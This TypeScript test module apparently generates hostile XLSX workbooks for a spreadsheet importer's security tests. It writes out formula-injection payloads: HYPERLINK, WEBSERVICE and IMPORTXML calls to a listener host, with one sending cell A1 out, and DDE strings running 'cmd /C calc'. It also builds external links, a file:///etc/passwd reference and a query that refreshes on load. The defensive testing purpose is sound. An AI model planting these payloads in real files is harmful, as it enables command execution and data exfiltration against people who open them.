import { relationships, sheetXml } from '../../sheet/xlsx/makeWorkbook.ts';
import { type HostileFile, hostileFiles, type Maker } from './hostileFile.ts';
import { line, REGISTER, registerBook, rowsXml } from './registerBook.ts';

const SHEET = 'xl/worksheets/sheet1.xml';
const SHEET_RELATIONS = 'xl/worksheets/_rels/sheet1.xml.rels';
const LINK = 'xl/externalLinks/externalLink1.xml';

/** Workbooks that would make their reader call somebody or run something (threats 27 to 29). */
export const outsideWorld: Maker = ({ listener }) => {
  const behind = (xml: string) => sheetXml(rowsXml()).replace('</worksheet>', `${xml}</worksheet>`);
  const related =
    (type: string, target: string, xml = '') =>
    () =>
      registerBook({
        [SHEET]: behind(xml),
        [SHEET_RELATIONS]: relationships(['rId1', type, target, 'External']),
      });
  const formula = (text: string) => () =>
    registerBook({
      [SHEET]: sheetXml(
        `${rowsXml()}<row r="4"><c r="A4" t="str"><f>${text}</f><v>Invoice</v></c><c r="B4" t="str"><f>${text}</f><v>H/3</v></c></row>`,
      ),
    });
  const texts: Readonly<Record<string, string>> = {
    HYPERLINK: `=HYPERLINK("${listener}/?a="&A1,"Ganga")`,
    WEBSERVICE: `=WEBSERVICE("${listener}/")`,
    DDE: "=cmd|' /C calc'!A0",
    'DDE behind a sign': "@SUM(1+9)*cmd|' /C calc'!A0",
    IMPORTXML: `+IMPORTXML("${listener}/","//a")`,
    'a tab and a formula': '\t=1+1',
  };
  const asText = (text: string) => () =>
    registerBook({ [SHEET]: sheetXml(rowsXml([...REGISTER, line('H/3', text)])) });
  const links: HostileFile[] = hostileFiles(
    { kind: 'links', threat: 29, declared: 'XLSX' },
    {
      'a link': [
        'rows',
        related(
          'hyperlink',
          `${listener}/`,
          '<hyperlinks><hyperlink ref="A1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></hyperlinks>',
        ),
      ],
      'a picture': ['rows', related('image', `${listener}/a.png`)],
      'a picture from a file': ['rows', related('image', 'file:///etc/passwd')],
      'an object': ['rows', related('oleObject', `${listener}/a.doc`)],
      'a template': ['rows', related('attachedTemplate', `${listener}/a.dotm`)],
      'a query': [
        'rows',
        () =>
          registerBook({
            'xl/connections.xml': `<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="${listener}/"/></connection></connections>`,
          }),
      ],
      'another workbook': [
        'rows',
        () =>
          registerBook({
            [LINK]: '<externalLink/>',
            'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
              'rId1',
              'externalLinkPath',
              `${listener}/a.xlsx`,
              'External',
            ]),
          }),
      ],
      'a DDE link': [
        'rows',
        () =>
          registerBook({
            [LINK]: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
          }),
      ],
    },
  );
  return [
    ...links,
    ...hostileFiles(
      { kind: 'formula', threat: 28, declared: 'XLSX' },
      Object.fromEntries(
        Object.entries(texts).map(([name, text]) => [
          name,
          ['rows', formula(text.replace(/^=/, '').replaceAll('&', '&amp;').replaceAll('\t', ''))] as const,
        ]),
      ),
    ),
    ...hostileFiles(
      { kind: 'formula as text', threat: 27, declared: 'XLSX' },
      Object.fromEntries(
        Object.entries(texts).map(([name, text]) => [name, ['rows', asText(text)] as const]),
      ),
    ),
  ];
};
